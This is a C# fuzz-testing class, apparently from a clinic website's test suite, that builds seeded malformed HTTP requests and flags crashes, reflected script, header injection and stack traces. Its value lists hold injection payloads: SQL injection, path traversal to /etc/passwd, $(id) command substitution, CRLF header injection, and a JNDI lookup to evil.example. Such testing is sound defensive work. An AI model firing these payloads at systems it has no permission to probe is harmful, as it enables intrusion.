using System.Globalization;
using System.Net.Sockets;
using System.Text;

namespace Ketamine.Web.Tests.Hostile;

/// <summary>
/// Requests that no browser sends, generated from a seed: odd methods, paths, and encodings, broken bodies, forged headers, and text that would run as
/// a script if a page repeated it unescaped. The same seed gives the same requests.
/// </summary>
public sealed class HostileRequests(int seed)
{
    /// <summary>Appears in no page unless a page repeats what was typed without escaping it.</summary>
    public const string Script = "<svg onload=hostile";

    private static readonly string[] Methods =
    [
        "GET", "GET", "GET", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "BREW", "get", "CONNECT",
    ];

    private static readonly string[] Paths =
    [
        "/", "/about", "/services", "/services/iv-ketamine", "/faqs", "/research", "/reviews", "/blog", "/blog/the-first",
        "/blog/topics/safety", "/search", "/privacy", "/contact", "/contact/sent", "/consultation", "/consultation/booked",
        "/consultation/manage/none", "/newsletter", "/newsletter/code", "/newsletter/confirm/none", "/newsletter/unsubscribe/none",
        "/newsletter/thanks", "/staff", "/staff/sign-in", "/staff/people", "/staff/enroll/none", "/staff/leads/none", "/views/the-first",
        "/error/404", "/error/500", "/images/dot.svg", "/site.css", "/sitemap.xml", "/feed.xml", "/rss.xml", "/feed.json", "/robots.txt",
        "/.well-known/security.txt", "/site.webmanifest", "/js/site.js", "/health/live", "/health/ready", "/preview/00", "/old-page",
        "/no/such/page",
    ];

    private static readonly string[] Fields =
    [
        "name", "email", "phone", "message", "consent", "slot", "contactBy", "times", "article", "page", "q", "ref", "id", "code", "token",
        "handler", "v", "p", "topic_line", "Form.Name", "name[0]", "name[", "[[a]", "__proto__",
    ];

    private static readonly string[] Values =
    [
        "",
        "a",
        "yes",
        "other",
        "1",
        "-1",
        "0",
        "99999999999999999999",
        "2",
        "1e9",
        "%00",
        "%EF%BF%BE",
        "%ED%A0%80",
        "%F0%9F%92%8A",
        "%E2%80%AE",
        "%0D%0AX-Injected:%201",
        "%22%27%3E" + "%3Csvg%20onload=hostile%3E",
        "%3Csvg%20onload=hostile%3E",
        "'%20OR%20'1'='1",
        "1;DROP%20TABLE%20Leads",
        "../../etc/passwd",
        "..%2f..%2fclinic.yml",
        "%252e%252e",
        "robin%40example.com",
        "%2B13035550142",
        "2027-01-18T16:00:00Z",
        "%FF%FE",
        "javascript:alert(1)",
        "https://evil.example",
        "%7B%7B7*7%7D%7D",
        "$(id)",
        "%",
        "%zz",
        "a%20b%09c",
        "%CC%81%CC%81%CC%81%CC%81",
        "00000000000000000000000000000000",
    ];

    private static readonly string[] Segments =
    [
        "", ".", "..", "%2e%2e", "%2f", "%5c", "\\", "%00", "%0a", "~", "A", "%C3%A4", "%ff", "%EF%BF%BE", "<svg onload=hostile>",
        "%3Csvg%20onload=hostile%3E", ";x=1", ":", "//", "con", ".git", "wp-login.php",
    ];

    private static readonly string[] Types =
    [
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-7",
        "application/x-www-form-urlencoded; charset=utf-16", "multipart/form-data", "multipart/form-data; boundary=x",
        "multipart/form-data; boundary=\"\"", "application/json", "text/plain", "application/xml", "", "a/b; q=\u0001", "form",
        "multipart/mixed; boundary=x",
    ];

    private static readonly string[] Headers =
    [
        "Cookie: a=b; .AspNetCore.Antiforgery=x", "Accept-Encoding: br;q=x, *;q=0", "Accept-Encoding: gzip", "Accept-Encoding: br",
        "Accept-Encoding: ,,,;;;", "Accept-Language: <svg onload=hostile>", "If-None-Match: *", "If-None-Match: \"", "If-Match: *",
        "If-Match: \"x\"", "If-Modified-Since: yesterday", "Range: bytes=0-0,-1,5-2", "Range: bytes=99999999999999999999-",
        "If-Range: \"x\"", "X-Forwarded-For: <svg onload=hostile>", "X-Forwarded-Host: evil.example", "X-Forwarded-Proto: javascript",
        "X-Original-URL: /staff", "X-HTTP-Method-Override: DELETE", "Origin: null", "Origin: https://evil.example", "Origin: a..b",
        "Referer: https://evil.example/<svg onload=hostile>", "Sec-Fetch-Site: cross-site", "Sec-Fetch-Site: same-origin",
        "Sec-Fetch-Site: same-origin, none", "Expect: 100-continue", "Expect: tea", "Upgrade: websocket", "Transfer-Encoding: gzip",
        "Content-Encoding: br", "User-Agent: ${jndi:ldap://evil.example/a}", "Authorization: Bearer <svg onload=hostile>",
        "Authorization: Basic AAAA", "TE: trailers", "Sec-Purpose: prefetch", "Accept: */*;q=x", "Content-Length: 7", "Max-Forwards: 0",
        "Via: 1.1 x",
    ];

    private static readonly string[] Hosts =
    [
        "localhost", "localhost", "localhost", "", "a..b", "a:99999", "xn--", "evil.example", "[::1]", "[::1", "a b", "LOCALHOST:80",
    ];

    // Long enough for a busy machine. A request that is never finished gets a response only if the site doesn't need the rest.
    private static readonly TimeSpan Patience = TimeSpan.FromSeconds(20);
    private static readonly TimeSpan UnfinishedPatience = TimeSpan.FromSeconds(1);

    private readonly Random _random = new(seed);

    /// <summary>Whether <see cref="Next"/> last made a request whose body is shorter than announced, so the site waits for the rest.</summary>
    public bool IsUnfinished { get; private set; }

    /// <summary>The next request, as bytes to write to a connection.</summary>
    public byte[] Next()
    {
        var method = One(Methods);
        var target = Target();
        if (method == "POST" && _random.Next(2) == 0)
            target = One([
                "/contact", "/consultation", "/newsletter", "/newsletter/code", "/consultation/manage/none", "/staff/leads/none",
                "/staff/sign-in", "/staff/people",
            ]);
        var type = method is "POST" && _random.Next(2) == 0 ? Types[0] : method is "GET" or "HEAD" && _random.Next(4) > 0 ? "" : One(Types);
        var body = method is "GET" or "HEAD" && _random.Next(6) > 0 ? "" : Body(type);
        var text = new StringBuilder()
            .Append(method)
            .Append(' ')
            .Append(target)
            .Append(" HTTP/1.1\r\nHost: ")
            .Append(One(Hosts))
            .Append("\r\nConnection: close\r\n");
        for (var i = _random.Next(4); i > 0; i--) text.Append(One(Headers)).Append("\r\n");
        if (type.Length > 0) text.Append("Content-Type: ").Append(type).Append("\r\n");
        IsUnfinished = false;
        if (_random.Next(12) == 0 && body.Length > 0)
        {
            IsUnfinished = _random.Next(8) == 0;
            text.Append("Transfer-Encoding: chunked\r\n\r\n")
                .Append(body.Length.ToString("x", CultureInfo.InvariantCulture))
                .Append("\r\n")
                .Append(body)
                .Append(IsUnfinished ? "" : "\r\n0\r\n\r\n");
        }
        else
        {
            IsUnfinished = _random.Next(300) == 0;
            text.Append("Content-Length: ").Append(body.Length + (IsUnfinished ? 5 : 0)).Append("\r\n\r\n").Append(body);
        }

        return Encoding.Latin1.GetBytes(text.ToString());
    }

    /// <summary>
    /// Sends the request that was made last, and reads the response until the server closes the connection. Gives up an unfinished request after a second.
    /// </summary>
    /// <returns>The status (0 if the connection was closed without a response) and the whole response.</returns>
    public async Task<(int Status, string Answer)> SendAsync(Uri site, byte[] request)
    {
        using var socket = new TcpClient { NoDelay = true };
        await socket.ConnectAsync(site.Host, site.Port);
        await using var stream = socket.GetStream();
        using var patience = new CancellationTokenSource(IsUnfinished ? UnfinishedPatience : Patience);
        using var answer = new MemoryStream();
        try
        {
            await stream.WriteAsync(request, patience.Token);
            await stream.CopyToAsync(answer, patience.Token);
        }
        catch (Exception cut) when (cut is IOException or SocketException or OperationCanceledException)
        {
            // Refused midway: the response is what was read so far.
        }

        var text = Encoding.UTF8.GetString(answer.GetBuffer(), 0, (int)answer.Length);
        var status =
            text.StartsWith("HTTP/1.1 ", StringComparison.Ordinal) && text.Length > 12 ? int.Parse(text.AsSpan(9, 3), CultureInfo.InvariantCulture) : 0;
        return (status, text);
    }

    /// <summary>What is wrong with a response; null if nothing is.</summary>
    public string? Fault(int status, string answer) =>
        status == 0 && !IsUnfinished ? "isn't answered"
        : status >= 500 ? $"answered {status}"
        : answer.Contains(Script, StringComparison.OrdinalIgnoreCase) ? "repeats what was typed unescaped"
        : answer.Contains("\r\nX-Injected", StringComparison.OrdinalIgnoreCase) ? "lets a header be injected"
        : answer.Contains("   at Ketamine", StringComparison.Ordinal) ? "shows a stack trace"
        : null;

    private string Target()
    {
        if (_random.Next(60) == 0) return One(["*", "http://evil.example/", "localhost:80", "//evil.example/", "?", "/" + new string('a', 9000)]);
        var path = One(Paths);
        if (_random.Next(3) == 0)
        {
            var at = _random.Next(path.Length + 1);
            path = path[..at] + One(Segments).Replace(' ', '+') + path[at..];
        }

        if (_random.Next(5) == 0) path = path.ToUpperInvariant();
        if (_random.Next(6) == 0) path += "/";
        return _random.Next(2) == 0 ? path : path + "?" + Pairs();
    }

    private string Body(string type) => type switch
    {
        { } form when form.StartsWith("multipart", StringComparison.Ordinal) => Multipart(),
        "application/json" => "{\"name\": \"<svg onload=hostile>\"",
        _ => _random.Next(40) == 0 ? "message=" + new string('x', 70_000) : Pairs(),
    };

    private string Pairs() =>
        string.Join('&', Enumerable.Range(0, _random.Next(1, 7)).Select(_ => _random.Next(20) == 0 ? One(Values) : $"{One(Fields)}={One(Values)}"));

    private string Multipart()
    {
        var text = new StringBuilder();
        for (var i = _random.Next(1, 4); i > 0; i--)
            text.Append("--x\r\nContent-Disposition: form-data; name=\"")
                .Append(One(Fields))
                .Append(_random.Next(5) == 0 ? "\"; filename=\"a.exe" : "")
                .Append("\"\r\n\r\n")
                .Append(Uri.UnescapeDataString(One(Values)))
                .Append("\r\n");
        return text.Append(_random.Next(3) == 0 ? "" : "--x--\r\n").ToString();
    }

    private string One(string[] from) => from[_random.Next(from.Length)];
}
